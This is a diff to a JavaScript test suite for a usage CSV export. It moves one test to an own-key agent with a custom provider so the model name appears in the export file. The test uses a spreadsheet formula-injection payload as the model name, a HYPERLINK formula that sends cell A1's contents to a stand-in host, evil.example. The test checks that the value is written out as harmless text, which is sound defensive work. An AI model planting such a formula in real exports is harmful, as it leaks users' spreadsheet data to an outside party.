@@ -22,7 +22,8 @@ describe('usage CSV export', function () {
   });
 
   it('a model name that is a formula reaches export.csv as text', async () => {
-    const agent = await createAgent(platform.url, owner, { mode: 'managed', plan: 'pro' });
+    // An own-key agent: its model is in its export (a managed call's model is left out of the customer's file).
+    const agent = await createAgent(platform.url, owner, { mode: 'byok', provider: 'custom', model: 'any-model', apiKey: 'custom-endpoint-key', baseUrl: 'https://llm.example.com/v1' });
     const model = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
     platform.platform.meter.record({
       requestId: `req_csv_${agent.id}`,
@@ -32,8 +33,8 @@ describe('usage CSV export', function () {
       provider: 'custom',
       model,
       tier: null,
-      mode: 'managed',
-      plan: 'pro',
+      mode: 'byok',
+      plan: null,
       requestType: 'chat',
       status: 'ok',
       usageSource: 'provider',
